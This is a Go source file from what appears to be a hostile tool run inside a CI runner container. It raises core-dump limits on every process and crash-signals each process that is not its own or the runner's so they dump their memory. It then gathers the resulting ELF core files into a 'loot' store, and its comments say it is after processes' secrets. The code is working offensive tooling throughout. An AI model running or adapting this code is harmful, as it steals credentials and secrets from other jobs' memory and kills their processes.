package main

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"time"
	"unsafe"
)

// cores wants every process to leave its memory behind, and ends it.
func cores(l *loot) {
	unlimited := syscall.Rlimit{Cur: ^uint64(0), Max: ^uint64(0)}
	_ = syscall.Setrlimit(syscall.RLIMIT_CORE, &unlimited)
	all := processes()
	for _, pid := range all {
		l.count("prlimit")
		if _, _, errno := syscall.RawSyscall6(syscall.SYS_PRLIMIT64, uintptr(pid), syscall.RLIMIT_CORE, uintptr(unsafe.Pointer(&unlimited)), 0, 0, 0); errno == 0 {
			l.count("limits that were raised")
		} else {
			// Up to its hard limit.
			var limit syscall.Rlimit
			if _, _, errno := syscall.RawSyscall6(syscall.SYS_PRLIMIT64, uintptr(pid), syscall.RLIMIT_CORE, 0, uintptr(unsafe.Pointer(&limit)), 0, 0); errno == 0 {
				limit.Cur = limit.Max
				_, _, _ = syscall.RawSyscall6(syscall.SYS_PRLIMIT64, uintptr(pid), syscall.RLIMIT_CORE, uintptr(unsafe.Pointer(&limit)), 0, 0, 0)
			}
		}
	}
	l.save("part")
	// By turns the newest first and the oldest: with the first that crashes the container may end. The runner's own, which have no secret, are
	// left alone, since their cores would take the place of others.
	var targets []int
	for _, pid := range all {
		if name := describe(pid); !strings.Contains(name, "/hostile") && !isOfRunner(name) && pid != os.Getppid() {
			targets = append(targets, pid)
		}
	}
	if round%2 == 1 {
		slices.Reverse(targets)
	}
	for _, number := range []syscall.Signal{syscall.SIGABRT, syscall.SIGQUIT, syscall.SIGSEGV} {
		for _, pid := range targets {
			l.count("signals")
			l.opened(fmt.Sprintf("%d to %s", number, describe(pid)))
			l.save("part")
			_ = syscall.Kill(pid, number)
			time.Sleep(300 * time.Millisecond)
		}
	}
	time.Sleep(time.Second)
	collectCores(l)
}

// collectCores reads what a container of before has left.
func collectCores(l *loot) {
	folders := []string{"/", "/tmp", "/home/runner", "/home/runner/_work", "/_work", "/run", "/var/tmp", "/dev/shm", "/loot", "/var/lib/runner-broker"}
	for _, pid := range processes() {
		if cwd, err := os.Readlink(fmt.Sprintf("/proc/%d/cwd", pid)); err == nil {
			folders = append(folders, cwd)
		}
	}
	done := map[string]bool{}
	for _, name := range folders {
		_ = filepath.WalkDir(name, func(path string, entry os.DirEntry, err error) error {
			if err != nil {
				return nil
			}
			if entry.IsDir() && path != name && name == "/" {
				return filepath.SkipDir
			}
			if !strings.HasPrefix(entry.Name(), "core") || done[path] {
				return nil
			}
			done[path] = true
			l.count("files that may be cores")
			readWhole(l, path)
			return nil
		})
	}
	l.count("collections")
}

func readWhole(l *loot, path string) {
	file, err := os.Open(path)
	if err != nil {
		return
	}
	defer file.Close()
	magic := make([]byte, 18)
	if n, _ := file.ReadAt(magic, 0); n < 18 || string(magic[:4]) != "\x7fELF" || magic[16] != 4 {
		return
	}
	l.count("cores")
	buffer := make([]byte, chunk)
	for {
		n, err := file.Read(buffer)
		if n > 0 {
			l.keep(path, buffer[:n])
		}
		if err != nil {
			return
		}
	}
}
